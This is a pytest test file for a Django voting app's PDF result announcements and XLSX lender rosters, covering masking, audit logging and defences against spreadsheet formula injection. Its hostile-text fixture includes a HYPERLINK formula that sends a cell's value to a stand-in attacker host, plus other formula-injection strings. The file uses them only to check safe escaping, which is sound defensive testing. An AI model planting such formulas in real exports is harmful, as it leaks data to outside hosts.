"""The result announcement (PDF) and the roster (XLSX).

The PDF is read back with PDFium (pypdfium2, which also renders attachments), so the tests
check the words a reader sees on the page."""

from __future__ import annotations

import io
from decimal import Decimal
from pathlib import Path

import pypdfium2 as pdfium
import pytest
from django.utils import timezone
from openpyxl import load_workbook

from winddown.audit.models import AuditEntry
from winddown.audit.services import Actor
from winddown.core.errors import DomainError
from winddown.core.tests.xlsx_checks import (
    CONTROL_TEXT,
    CONTROL_TEXT_WRITTEN,
    HOSTILE_TEXTS,
    assert_safe_xlsx,
    written,
)
from winddown.voting import exports
from winddown.voting.audit_actions import VotingAction
from winddown.voting.errors import VotingErrorCode as E
from winddown.voting.models import Ballot
from winddown.voting.services import casting
from winddown.voting.tests.conftest import ME, PASSWORD, close_now, make_event, open_now

pytestmark = pytest.mark.django_db

WQY = Path("/usr/share/fonts/truetype/wqy/wqy-microhei.ttc")


# --- Reading the PDF back ------------------------------------------------------------------


def pdf_text(data: bytes) -> str:
    """The text of every page, as a reader copying it would get it (PDFium's extraction)."""
    document = pdfium.PdfDocument(data)
    try:
        return "\n".join(page.get_textpage().get_text_range() for page in document)
    finally:
        document.close()


def squeeze(value: str) -> str:
    """Without white space: lines wrap anywhere in Chinese text."""
    return "".join(value.split())


def page_count(data: bytes) -> int:
    document = pdfium.PdfDocument(data)
    try:
        return len(document)
    finally:
        document.close()


# --- Fixtures -------------------------------------------------------------------------------


def _cast(event, lender, choice):
    return casting.ballot_cast(
        event=event, lender=lender, choice=choice, password=PASSWORD, actor=ME
    ).ballot


@pytest.fixture
def counted_resolution(institution_a, operator_a, wg_officer, lenders):
    event = open_now(
        make_event(
            institution_a, operator_a, title="关于网贷机构A良性退出方案的表决", allow_abstain=True
        ),
        wg_officer,
    )
    _cast(event, lenders[0], "no")
    _cast(event, lenders[0], "yes")  # changed: the latest counts
    for lender in lenders[1:4]:
        _cast(event, lender, "yes")
    _cast(event, lenders[4], "abstain")
    return close_now(event)


# --- PDF ------------------------------------------------------------------------------------


def test_announcement_of_a_resolution(counted_resolution):
    event = counted_resolution
    data = exports.announcement_pdf(event)
    assert data.startswith(b"%PDF-")
    assert page_count(data) >= 1
    if WQY.exists():
        # The TrueType font is embedded (as a subset), not merely referenced.
        assert b"WenQuanYiMicroHei" in data and b"/FontFile2" in data
    else:
        assert b"STSong-Light" in data
    text = squeeze(pdf_text(data))
    result = event.result["result"]
    for expected in (
        "表决结果公告",
        "网贷机构A信息咨询有限公司",
        "关于网贷机构A良性退出方案的表决",
        "草稿：结果尚未公布",  # counted, not yet published
        "2/3+双过半",
        "有表决权出借人11人，未偿还本金合计1,100.00元",
        "参与表决5人",
        "同意4",
        "400.00",
        "弃权1",
        result["summary"],
        event.merkle_root,
        f"共{event.merkle_size}条记录",
        "python-mwinddown.verify结果包.zip",
    ):
        assert squeeze(expected) in text, expected
    for criterion in result["criteria"]:
        assert squeeze(criterion["explanation"]) in text
    assert event.merkle_size == 6  # five lenders, one change


def test_announcement_of_an_election_names_the_elected(
    institution_a, operator_a, wg_officer, lenders, register_rows_a
):
    from winddown.voting.services import authoring

    election = make_event(institution_a, operator_a, kind="election", seats=1, max_choices=1)
    for name in ("王小进", "张小英"):
        authoring.candidate_add(event=election, user=election.created_by, name=name, description="")
    election = open_now(election, wg_officer)
    # Everyone of the electorate needs to vote for 2/3 participation: make more lenders.
    from winddown.conftest import make_lender

    extra = [
        make_lender(r[3], name=r[0], id_number=r[2], password=PASSWORD)
        for r in register_rows_a[5:11]
    ]
    for lender in [*lenders, *extra]:
        _cast(election, lender, ["c1"])
    election = close_now(election)
    assert election.result["result"]["elected"] == ["王小进"]
    text = squeeze(pdf_text(exports.announcement_pdf(election)))
    assert "当选" in text and "王小进" in text and "张小英" in text
    assert squeeze(election.result["result"]["summary"]) in text
    summary, roster = _sheets(exports.roster_xlsx(election, full_identities=False))
    assert {row[5] for row in roster.iter_rows(min_row=2, values_only=True)} == {"王小进"}
    labels = {row[0]: row for row in summary.iter_rows(values_only=True) if row and row[0]}
    assert labels["王小进"][1] == 11 and labels["王小进"][5] == "当选"
    assert labels["张小英"][5] == "未达到当选条件"


def test_announcement_falls_back_to_the_builtin_cid_font(counted_resolution, monkeypatch):
    monkeypatch.setattr(exports, "FONT_FILES", (("/nonexistent/font.ttc", 0),))
    data = exports.announcement_pdf(counted_resolution)
    assert data.startswith(b"%PDF-") and b"STSong-Light" in data
    assert "表决结果公告" in squeeze(pdf_text(data))


def test_nothing_to_export_before_counting(institution_a, operator_a, wg_officer, lenders):
    event = open_now(make_event(institution_a, operator_a), wg_officer)
    with pytest.raises(DomainError) as info:
        exports.announcement_pdf(event)
    assert info.value.error_code is E.WRONG_STATUS and "不能导出结果公告" in info.value.message
    with pytest.raises(DomainError):
        exports.roster_xlsx(event, full_identities=True)
    recruitment = make_event(institution_a, operator_a, kind="recruitment")
    with pytest.raises(DomainError) as info:
        exports.announcement_pdf(recruitment)
    assert info.value.error_code is E.NOT_A_BALLOT_EVENT


# --- XLSX -----------------------------------------------------------------------------------


def _sheets(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["计票汇总", "投票名册"]
    return workbook["计票汇总"], workbook["投票名册"]


def test_roster_full_and_masked(counted_resolution, lenders):
    event = counted_resolution
    summary, roster = _sheets(exports.roster_xlsx(event, full_identities=True))
    header = [c.value for c in roster[1]]
    assert header == list(exports.ROSTER_HEADER)
    rows = list(roster.iter_rows(min_row=2))
    assert len(rows) == 5  # one per lender who voted, not per ballot
    by_id = {row[2].value: row for row in rows}
    first = by_id[lenders[0].id_number.value]
    assert first[1].value == lenders[0].real_name
    assert first[5].value == "同意"  # the final choice, in words
    assert first[8].value == 1  # changed once
    weight = first[4]
    assert weight.value == Decimal("100.00") or weight.value == 100
    assert weight.number_format == "#,##0.00"
    final = Ballot.objects.get(elector__id_index=lenders[0].id_index, is_current=True)
    assert first[7].value == final.receipt
    assert first[6].value == timezone.localtime(final.cast_at).replace(tzinfo=None, microsecond=0)
    assert by_id[lenders[4].id_number.value][5].value == "弃权"

    masked = _sheets(exports.roster_xlsx(event, full_identities=False))[1]
    values = list(masked.iter_rows(min_row=2, values_only=True))
    assert {row[7] for row in values} == {row[7].value for row in rows}
    for row in values:
        assert row[1].endswith("*") and "*" in row[2] and "*" in row[3]
    assert lenders[0].id_number.value not in {row[2] for row in values}

    labels = {row[0]: row for row in summary.iter_rows(values_only=True) if row and row[0]}
    assert labels["有表决权出借人（人）"][1] == 11
    assert labels["身份信息"][1] == "完整"
    assert labels["默克尔树根"][1] == event.merkle_root
    assert labels["同意"][1:3] == (4, "80.00%")
    assert labels["同意"][4] == "36.36%"  # 400.00 of 1,100.00 yuan
    assert labels["不同意"][1] == 0


def test_roster_export_is_audited_with_the_identity_level(
    counted_resolution, wg_officer, operator_a
):
    for user in (wg_officer, operator_a):
        data = exports.export_roster(
            event=counted_resolution, user=user, actor=Actor(user.pk, user.audit_label)
        )
        summary, _ = _sheets(data)
    entries = AuditEntry.objects.filter(action=VotingAction.ROSTER_EXPORTED).order_by("seq")
    assert [(e.actor_id, e.after["full_identities"]) for e in entries] == [
        (wg_officer.pk, True),
        (operator_a.pk, False),
    ]
    labels = {row[0]: row for row in summary.iter_rows(values_only=True) if row and row[0]}
    assert labels["身份信息"][1] == "已脱敏" and labels["导出人"][1] == "operator_a"


# --- Hostile text (issue 15, item 6) --------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/"&C2,"点击")'


@pytest.fixture
def hostile_election(tmp_path, institution_a, operator_a, wg_officer, register_rows_a):
    """An election whose every user-entered text is hostile: the institution's name, the
    title, the candidates' names, the lenders' names in the register, the exporter's name."""
    from winddown.conftest import make_lender, register_file, upload_and_activate
    from winddown.institutions.models import Institution
    from winddown.voting.services import authoring

    rows = [list(row) for row in register_rows_a]
    for row, value in zip(rows, HOSTILE_TEXTS, strict=False):
        row[0] = value
    upload_and_activate(institution_a, operator_a, register_file(tmp_path, rows))
    Institution.objects.filter(pk=institution_a.pk).update(full_name=HYPERLINK)
    institution_a.refresh_from_db()
    for user in (operator_a, wg_officer):
        user.display_name = "@SUM(A1)"
        user.save(update_fields=["display_name"])
    election = make_event(
        institution_a, operator_a, kind="election", seats=2, max_choices=2, title=HYPERLINK
    )
    for name in ("=1+2", "+1", "-1+2", "@SUM(A1)", CONTROL_TEXT, "#N/A"):
        authoring.candidate_add(event=election, user=operator_a, name=name, description="")
    election = open_now(election, wg_officer)
    lenders = [
        make_lender(row[3], name=row[0], id_number=row[2], password=PASSWORD)
        for row in rows[: len(HOSTILE_TEXTS)]
    ]
    for number, lender in enumerate(lenders):
        _cast(election, lender, [f"c{number % 6 + 1}", f"c{(number + 1) % 6 + 1}"])
    return close_now(election), rows


@pytest.mark.parametrize("full_identities", [True, False], ids=["full", "masked"])
def test_roster_writes_hostile_text_as_text(hostile_election, full_identities):
    """No user text becomes a formula, and the file (full or masked) opens cleanly: a masked
    hostile name such as '=*****' would otherwise be a broken formula, which Excel reports as
    a damaged file."""
    event, rows = hostile_election
    data = exports.roster_xlsx(event, full_identities=full_identities, exported_by="@SUM(A1)")
    sheets = assert_safe_xlsx(data)
    summary, roster = sheets["计票汇总"], sheets["投票名册"]
    labels = {row[0]: row for row in summary if row and row[0]}
    assert labels["机构"][1] == HYPERLINK
    assert labels["活动"][1] == HYPERLINK
    assert labels["导出人"][1] == "@SUM(A1)"
    for name in ("=1+2", "+1", "-1+2", "@SUM(A1)", CONTROL_TEXT_WRITTEN, "#N/A"):
        assert name in labels, name  # the tally's candidate rows
    lines = roster[1:]
    assert len(lines) == len(HOSTILE_TEXTS)
    by_id = {row[2]: row for row in lines}
    for row in rows[: len(HOSTILE_TEXTS)]:
        if full_identities:
            line = by_id[row[2]]
            assert line[1] == written(row[0])
            # ID and mobile numbers are text, exactly as registered (no 1.10101E+17).
            assert line[2] == row[2] and isinstance(line[2], str) and len(line[2]) == 18
            assert line[3] == row[3] and isinstance(line[3], str)
    if not full_identities:
        names = {line[1] for line in lines}
        assert "=" + "*" * (len(HYPERLINK) - 1) in names and "+*" in names
        assert all("*" in line[2] and isinstance(line[2], str) for line in lines)
    choices = {line[5] for line in lines}
    assert "=1+2、+1" in choices and f"{CONTROL_TEXT_WRITTEN}、#N/A" in choices


def test_hostile_roster_through_the_staff_page(hostile_election, wg_officer, operator_a):
    """Both downloads people actually open: the working group's (full) and the operator's
    (masked)."""
    event, _rows = hostile_election
    from winddown.conftest import staff_signed_in

    for user in (wg_officer, operator_a):
        response = staff_signed_in(user).get(f"/staff/events/{event.pk}/roster.xlsx")
        assert response.status_code == 200, response.content[:200]
        data = b"".join(response.streaming_content) if response.streaming else response.content
        sheets = assert_safe_xlsx(data)
        summary = {row[0]: row for row in sheets["计票汇总"] if row and row[0]}
        assert summary["导出人"][1] == "@SUM(A1)"
